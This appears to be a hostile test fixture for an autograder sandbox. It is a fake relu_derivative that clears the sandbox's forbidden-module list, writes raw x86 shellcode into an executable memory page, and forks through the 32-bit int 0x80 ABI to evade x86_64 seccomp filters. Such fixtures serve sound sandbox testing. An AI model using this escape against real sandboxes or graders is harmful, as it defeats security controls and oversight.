# Hostile case 'foreign_syscall_abi': relu_derivative forks through the 32-bit ABI (int 0x80), which seccomp rules name apart.
# Appended to solutions/ex01_sigmoid_derivative.py by tests/security/test_hostile.py, which says what it must get.
import ctypes
import mmap
import sys

# push rbx; mov eax, 2 (i386's fork); xor ebx, ebx; int 0x80; movsxd rax, eax; pop rbx; ret
_FORK_AS_I386 = b"\x53\xb8\x02\x00\x00\x00\x31\xdb\xcd\x80\x48\x63\xc0\x5b\xc3"


def relu_derivative(z):
    sys.modules["autograder.execution.sandbox"]._FORBIDDEN.clear()  # hostile: the hook lets ctypes by
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(_FORK_AS_I386)  # hostile: x86_64 only; a filter of x86_64's numbers alone would let it by
    fork = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return fork()  # hostile: a pid, or 0 in a child outside every rule
